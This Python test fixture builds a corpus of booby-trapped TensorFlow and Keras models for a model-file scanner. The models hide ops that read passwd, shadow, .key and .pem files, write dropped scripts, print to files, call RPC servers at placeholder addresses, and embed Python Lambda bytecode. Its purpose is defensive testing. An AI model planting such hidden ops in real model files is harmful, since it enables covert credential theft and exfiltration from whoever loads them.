"""The attack corpus for ``scan``, built with TensorFlow itself at test time (nothing binary is committed).

:func:`build` runs :data:`BUILD` in a TensorFlow subprocess that writes one
model per attack into a folder; :data:`ATTACKS` says, for each, what
``scan`` must find: the op type, a part of the name of the function that
holds it (the attack hides in a ``tf.function`` that the serving signature
calls, in a ``while`` body, in a dataset map function), and a part of the
resolved path or address. Every path an attack names is under ``TARGET``,
a folder the test makes where each named file is a FIFO or unreadable:
``scan`` must finish without touching any of them.

Nothing here runs the models: building only traces their functions.
"""
from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


@dataclass(frozen=True)
class Attack:
    name: str          # folder (or file) under the corpus directory
    op: str            # op type (or "Lambda layer") scan must flag
    function: str      # part of the name of the function holding it ("" at top level / for Keras)
    value: str         # part of a resolved argument value (or of the Python function's name)
    capability: str


ATTACKS = [
    Attack("read_file", "ReadFile", "hidden", "passwd", "read-files"),
    Attack("read_immutable_const", "ImmutableConst", "hidden", "passwd", "read-files"),
    Attack("read_text_line_dataset", "TextLineDataset", "hidden", "passwd", "read-files"),
    Attack("read_tfrecord_dataset", "TFRecordDataset", "hidden", "records", "read-files"),
    Attack("read_fixed_length_dataset", "FixedLengthRecordDatasetV2", "hidden", "passwd", "read-files"),
    Attack("read_csv_dataset", "CSVDatasetV2", "hidden", "table.csv", "read-files"),
    Attack("read_restore", "RestoreV2", "hidden", "stolen_ckpt", "read-files"),
    Attack("read_whole_file_reader_tf1", "WholeFileReaderV2", "", "passwd", "read-files"),
    Attack("list_matching_files", "MatchingFiles", "hidden", "target/*", "list-files"),
    Attack("list_files_dataset", "MatchingFiles", "hidden", "target/*.key", "list-files"),
    Attack("list_matching_files_dataset", "MatchingFilesDataset", "hidden", "target/*.pem", "list-files"),
    Attack("write_print_v2", "PrintV2", "hidden", "file://", "write-files"),
    Attack("write_file", "WriteFile", "hidden", "dropped.sh", "write-files"),
    Attack("write_save_v2", "SaveV2", "hidden", "exfil_ckpt", "write-files"),
    Attack("write_save", "Save", "hidden", "exfil_save", "write-files"),
    Attack("net_rpc_client", "RpcClient", "hidden", "203.0.113.7:8500", "network"),
    Attack("net_rpc_call", "RpcCall", "hidden", "203.0.113.7:8500", "network"),
    Attack("net_data_service", "DataServiceDatasetV4", "hidden", "203.0.113.8:5050", "network"),
    Attack("net_register_dataset", "RegisterDatasetV2", "hidden", "203.0.113.9:5050", "network"),
    Attack("python_numpy_function", "PyFunc", "hidden", "pyfunc", "python"),
    Attack("python_py_function", "EagerPyFunc", "hidden", "pyfunc", "python"),
    Attack("while_body_print", "PrintV2", "while_body", "file://", "write-files"),
    Attack("dataset_map_read", "ReadFile", "map", "shadow", "read-files"),
    Attack("keras_lambda_savedmodel", "Lambda layer", "", "steal", "python"),
    Attack("keras_lambda.keras", "Lambda layer", "", "<lambda>", "python"),
]

BUILD = r'''
import os, sys
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow as tf
from tensorflow.python.distribute.experimental.rpc.rpc_ops import gen_rpc_ops

out, target = sys.argv[1], sys.argv[2]
T = lambda name: os.path.join(target, name)
spec = [tf.TensorSpec([2], tf.float32)]


def save(name, hidden, result=lambda x, r: x):
    """A module whose serving signature calls ``hidden`` (another tf.function) and returns a float."""
    class M(tf.Module):
        @tf.function(input_signature=spec)
        def serve(self, x):
            return {"y": result(x, hidden(x))}
    m = M()
    tf.saved_model.save(m, os.path.join(out, name), signatures={"serving_default": m.serve})


def hide(fn):
    fn.__name__ = "hidden_" + fn.__name__
    return tf.function(fn)


def first(ds):
    return tf.data.experimental.get_single_element(ds.take(1))


save("read_file", hide(lambda x: tf.strings.length(tf.io.read_file(T("passwd")))),
     lambda x, r: x + tf.cast(r, tf.float32))
save("read_immutable_const", hide(lambda x: tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[2],
                                                                      memory_region_name=T("passwd"))),
     lambda x, r: x + r)
save("read_text_line_dataset", hide(lambda x: tf.strings.length(first(tf.data.TextLineDataset(T("passwd"))))),
     lambda x, r: x + tf.cast(r, tf.float32))
save("read_tfrecord_dataset", hide(lambda x: tf.strings.length(first(tf.data.TFRecordDataset(T("records"))))),
     lambda x, r: x + tf.cast(r, tf.float32))
save("read_fixed_length_dataset",
     hide(lambda x: tf.strings.length(first(tf.data.FixedLengthRecordDataset(T("passwd"), record_bytes=4)))),
     lambda x, r: x + tf.cast(r, tf.float32))
save("read_csv_dataset",
     hide(lambda x: tf.strings.length(first(tf.data.experimental.CsvDataset(T("table.csv"), [tf.string]))[0])),
     lambda x, r: x + tf.cast(r, tf.float32))
save("read_restore", hide(lambda x: tf.raw_ops.RestoreV2(prefix=T("stolen_ckpt"), tensor_names=["w"],
                                                         shape_and_slices=[""], dtypes=[tf.float32])[0]),
     lambda x, r: x + r)
save("list_matching_files", hide(lambda x: tf.size(tf.io.matching_files(T("*")))),
     lambda x, r: x + tf.cast(r, tf.float32))
save("list_files_dataset",
     hide(lambda x: tf.strings.length(first(tf.data.Dataset.list_files(T("*.key"), shuffle=False)))),
     lambda x, r: x + tf.cast(r, tf.float32))
save("list_matching_files_dataset",
     hide(lambda x: tf.strings.length(tf.raw_ops.DatasetToSingleElement(
         dataset=tf.raw_ops.MatchingFilesDataset(patterns=T("*.pem")), output_types=[tf.string],
         output_shapes=[[]])[0])),
     lambda x, r: x + tf.cast(r, tf.float32))


def print_to_file(x):
    tf.print("leak", x, output_stream="file://" + T("printed.txt"))
    return x
save("write_print_v2", hide(print_to_file))


def then(op_fn):
    """A function running a stateful op for its effect, returning its input (tf.function keeps the op)."""
    def fn(x):
        op_fn(x)
        return x
    fn.__name__ = op_fn.__name__
    return fn
save("write_file", hide(then(lambda x: tf.io.write_file(T("dropped.sh"), tf.strings.as_string(x)[0]))))
save("write_save_v2", hide(then(lambda x: tf.raw_ops.SaveV2(prefix=T("exfil_ckpt"), tensor_names=["x"],
                                                            shape_and_slices=[""], tensors=[x]))))
save("write_save", hide(then(lambda x: tf.raw_ops.Save(filename=T("exfil_save"), tensor_names=["x"], data=[x]))))


def rpc_client(x):
    client, _ = gen_rpc_ops.rpc_client(server_address="203.0.113.7:8500", timeout_in_ms=1000,
                                       shared_name="c", list_registered_methods=False)
    return client
save("net_rpc_client", hide(rpc_client), lambda x, r: x)


def rpc_call(x):
    client, _ = gen_rpc_ops.rpc_client(server_address="203.0.113.7:8500", timeout_in_ms=1000,
                                       shared_name="c", list_registered_methods=False)
    future, _ = gen_rpc_ops.rpc_call(client=client, args=[x], method_name="steal", timeout_in_ms=1000)
    return future
save("net_rpc_call", hide(rpc_call), lambda x, r: x)


def data_service(x):
    counter = tf.raw_ops.DummyIterationCounter()
    ds = tf.raw_ops.DataServiceDatasetV4(
        dataset_id="7", processing_mode="parallel_epochs", address="203.0.113.8:5050", protocol="grpc",
        job_name="", consumer_index=-1, num_consumers=-1, max_outstanding_requests=1,
        iteration_counter=counter, output_types=[tf.float32], output_shapes=[[]],
        uncompress_fn=tf.function(lambda v: v).get_concrete_function(tf.TensorSpec([], tf.variant)))
    return tf.raw_ops.DatasetToSingleElement(dataset=ds, output_types=[tf.float32], output_shapes=[[]])[0]
save("net_data_service", hide(data_service), lambda x, r: x + r)


def register(x):
    ds = tf.data.Dataset.from_tensors(x)
    return tf.raw_ops.RegisterDatasetV2(dataset=ds._variant_tensor, address="203.0.113.9:5050", protocol="grpc",
                                        external_state_policy=0, element_spec="")
save("net_register_dataset", hide(register), lambda x, r: x)
save("python_numpy_function", hide(lambda x: tf.numpy_function(lambda a: a, [x], tf.float32)),
     lambda x, r: x + r)
save("python_py_function", hide(lambda x: tf.py_function(lambda a: a, [x], tf.float32)), lambda x, r: x + r)


def loop(x):
    def body(i, v):
        tf.print("leak", v, output_stream="file://" + T("loop.txt"))
        return i + 1, v
    return tf.while_loop(lambda i, v: i < 3, body, [tf.constant(0), x])[1]
save("while_body_print", tf.function(loop))


def mapped(x):
    ds = tf.data.Dataset.from_tensors(tf.constant(T("shadow"))).map(lambda p: tf.strings.length(tf.io.read_file(p)))
    return tf.cast(first(ds), tf.float32)
save("dataset_map_read", tf.function(mapped), lambda x, r: x + r)

# TF1: a reader fed through a queue, in a SavedModel built with the v1 builder.
g = tf.Graph()
with g.as_default():
    v1 = tf.compat.v1
    queue = v1.train.string_input_producer([T("passwd")], shuffle=False)
    _, contents = v1.WholeFileReader().read(queue)
    x = v1.placeholder(tf.float32, [2], name="x")
    y = x + tf.cast(tf.strings.length(contents), tf.float32)
    with v1.Session(graph=g) as s:
        b = v1.saved_model.Builder(os.path.join(out, "read_whole_file_reader_tf1"))
        sig = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        b.add_meta_graph_and_variables(s, ["serve"], signature_def_map={"serving_default": sig})
        b.save()

# Keras 2 (tf_keras): a Lambda layer's bytecode in keras_metadata.pb.
import tf_keras
def steal(t):
    import os
    os.getcwd()
    return t * 2
m = tf_keras.Sequential([tf_keras.layers.InputLayer(input_shape=(2,)), tf_keras.layers.Lambda(steal, name="helper")])
m.save(os.path.join(out, "keras_lambda_savedmodel"), save_format="tf")
# Keras 3: a lambda's bytecode in the .keras archive's config.json.
import keras
m3 = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda t: t + 1, name="shift")])
m3.save(os.path.join(out, "keras_lambda.keras"))
print("built")
'''

# ``python -c NO_TENSORFLOW_SCAN PATH...``: ``scan --json`` with TensorFlow and Keras blocked from importing;
# the last line of stderr says whether either was imported anyway ("clean" or "TF-IMPORTED").
NO_TENSORFLOW_SCAN = r"""
import sys, json
class Block:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("tensorflow", "keras", "tf_keras"):
            raise ImportError(name + " is blocked in this test")
sys.meta_path.insert(0, Block())
from graphsurgeon.cli.main import main
sys.argv = ["graphsurgeon", "scan", "--json", "--jobs", "1", *sys.argv[1:]]
try:
    main()
finally:
    print("TF-IMPORTED" if any(m.split(".")[0] in ("tensorflow", "keras") for m in sys.modules) else "clean",
          file=sys.stderr)
"""

# Files the attacks name under TARGET: FIFOs (a read would block forever) and unreadable files.
FIFOS = ("passwd", "records", "shadow", "table.csv", "printed.txt", "loop.txt")
UNREADABLE = ("stolen_ckpt.index", "dropped.sh")


def make_target(target: Path) -> None:
    target.mkdir(parents=True, exist_ok=True)
    for name in FIFOS:
        os.mkfifo(target / name)
    for name in UNREADABLE:
        (target / name).write_text("must not be read")
        (target / name).chmod(0)


def build(out: Path, target: Path) -> None:
    """Write every attack model into ``out``; what they name lives in ``target`` (made first)."""
    make_target(target)
    out.mkdir(parents=True, exist_ok=True)
    env = {**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "CUDA_VISIBLE_DEVICES": ""}
    proc = subprocess.run([sys.executable, "-c", BUILD, str(out), str(target)], capture_output=True, text=True,
                          env=env, cwd=ROOT, timeout=900)
    if proc.returncode != 0 or "built" not in proc.stdout:
        raise RuntimeError(f"building the attack corpus failed:\n{proc.stderr[-4000:]}")
